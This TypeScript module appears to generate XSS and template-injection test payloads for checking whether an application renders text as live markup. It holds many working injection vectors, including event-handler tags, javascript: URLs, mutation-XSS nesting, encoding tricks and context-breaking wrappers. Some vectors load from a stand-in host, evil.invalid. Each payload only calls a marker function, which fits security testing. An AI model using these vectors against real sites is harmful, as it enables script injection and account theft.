import type { Dice } from './random.ts';

/** Text that runs, asks or reaches out if anything treats it as more than text. `mark` is plain and must be seen on the screen. */
export type Payload = { readonly index: number; readonly mark: string; readonly text: string };

const cores: readonly ((run: string) => string)[] = [
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<script>${run}</script>`,
  (run) => `<body onload=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video src=x onerror=${run}></video>`,
  (run) => `<a href=javascript:${run}>x</a>`,
  (run) => `<a href="java\u0009script:${run}">x</a>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  (run) => `<iframe src=javascript:parent.${run}>`,
  (run) => `<object data=javascript:${run}>`,
  (run) => `<form action=javascript:${run}><button>x`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x>`,
  (run) => `<style>@import 'https://evil.invalid/';</style>${run}`,
  (run) => `<link rel=stylesheet href=https://evil.invalid/>${run}`,
  (run) => `<img src=https://evil.invalid/${run}>`,
  (run) => `<meta http-equiv=refresh content="0;url=https://evil.invalid/">${run}`,
  (run) => `<base href=https://evil.invalid/>${run}`,
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `url(https://evil.invalid/${run})`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}<%= ${run} %>`,
  (run) => `{0} {name, plural, other{${run}}} <0>${run}</0>`,
  (run) => `"onmouseover="${run}" x="`,
  (run) => `' autofocus onfocus='${run}`,
  (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `\u202e<img src=x onerror=${run}>`,
  (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  (run) => `{"__html":"<img src=x onerror=${run}>"}`,
];

const wrappers: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => `">${core}`,
  (core) => `'>${core}`,
  (core) => `</textarea>${core}`,
  (core) => `</title>${core}`,
  (core) => `</style>${core}`,
  (core) => `</script>${core}`,
  (core) => `-->${core}`,
  (core) => `]]>${core}`,
  (core) => `<b>${core}</b>`,
  (core) => core.toUpperCase().replaceAll('RAN(', 'ran('),
  (core) => core.replaceAll('=', ' = '),
  (core) => core.replaceAll(' ', '/'),
  (core) => `${core}\u200b`,
];

/** The plainest first, which always runs where nothing stops it; then every core in every wrapper, in a random order. Each calls `ran` with its own number. */
export function makePayloads(count: number, dice: Dice): readonly Payload[] {
  const shapes = wrappers.flatMap((wrap) => cores.map((core) => ({ wrap, core, at: dice.next() }))).toSorted((a, b) => a.at - b.at);
  const plainest = { wrap: wrappers[0]!, core: cores[0]! };
  return Array.from({ length: count }, (_, index) => {
    const { wrap, core } = index === 0 ? plainest : shapes[index % shapes.length]!;
    const mark = `m${index}m`;
    return { index, mark, text: `${mark}${wrap(core(`ran(${index})`))}` };
  });
}
